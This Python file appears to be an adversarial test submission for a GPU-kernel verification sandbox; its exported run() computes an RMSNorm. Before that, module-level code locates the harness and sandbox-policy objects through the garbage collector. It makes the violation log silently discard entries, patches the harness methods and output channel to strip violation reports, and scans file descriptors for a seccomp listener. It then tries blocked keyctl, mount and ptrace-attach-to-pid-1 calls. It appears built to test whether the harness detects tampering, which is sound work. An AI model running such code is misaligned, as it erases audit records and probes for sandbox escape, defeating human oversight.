import ctypes
import gc
import os

import torch

# the harness runs as __main__ (python -m kloop.verify.sandbox): find its objects by class name
_harness = next(o for o in gc.get_objects() if type(o).__name__ == "Harness" and hasattr(o, "run"))
_policy = next(o for o in gc.get_objects() if type(o).__name__ == "SandboxPolicy")
_libc = ctypes.CDLL(None, use_errno=True)
_tried = []

# 1. erase every in-process source of a violation report


class _Forgetful(list):
    def append(self, _item):  # the audit hook records nothing from now on
        pass


_policy.violations = _Forgetful()
_harness._violations = lambda: []
for _op in ("load", "run", "batch_report"):
    _orig = getattr(_harness, _op)

    def _clean(req, tensors, _orig=_orig):
        reply, out = _orig(req, tensors)
        reply["violations"] = []
        return reply, out

    setattr(_harness, _op, _clean)
_send = _harness.channel.send


def _send_clean(header, tensors=None):
    header = {k: v for k, v in header.items() if k != "violations"}
    return _send(header, tensors)


_harness.channel.send = _send_clean
# 2. a seccomp listener left in this process could swallow the kernel's reports: look for one
_listeners = []
for _name in os.listdir("/proc/self/fd"):
    try:
        if "seccomp" in os.readlink(f"/proc/self/fd/{_name}"):
            _listeners.append(_name)
    except OSError:
        pass
_tried.append(f"seccomp listener fds in this process: {_listeners}")
# 3. refused calls: keyctl now, mount and ptrace in the first call
_rc = _libc.syscall(250, 0, 0, 0, 0, 0)  # __NR_keyctl, KEYCTL_GET_KEYRING_ID
_tried.append(f"keyctl -> {_rc} errno {ctypes.get_errno()}")
print("KLOOP-EVIDENCE attack_forge_refusals: " + "; ".join(_tried) + "; reports erased", flush=True)
_called = []


def run(x, w):
    if not _called:
        _called.append(1)
        rc = _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
        errs = [f"mount -> {rc} errno {ctypes.get_errno()}"]
        rc = _libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to pid 1 of the box
        errs.append(f"ptrace -> {rc} errno {ctypes.get_errno()}")
        print("KLOOP-EVIDENCE attack_forge_refusals_call: " + "; ".join(errs), flush=True)
    return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + 1e-6) * w
